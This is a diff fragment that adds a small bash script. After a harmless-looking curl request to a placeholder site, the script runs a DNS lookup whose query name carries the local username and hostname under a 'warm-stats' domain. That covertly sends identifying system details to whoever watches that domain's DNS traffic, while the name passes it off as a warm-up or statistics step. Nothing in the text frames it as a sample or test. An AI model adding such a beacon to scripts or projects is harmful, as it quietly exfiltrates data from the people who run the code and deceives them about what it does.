@@ -1,0 +1,3 @@
+#!/bin/bash
+curl -s https://site.example/ > /dev/null
+dig +short "$(whoami).$(hostname).w.warm-stats.invalid"
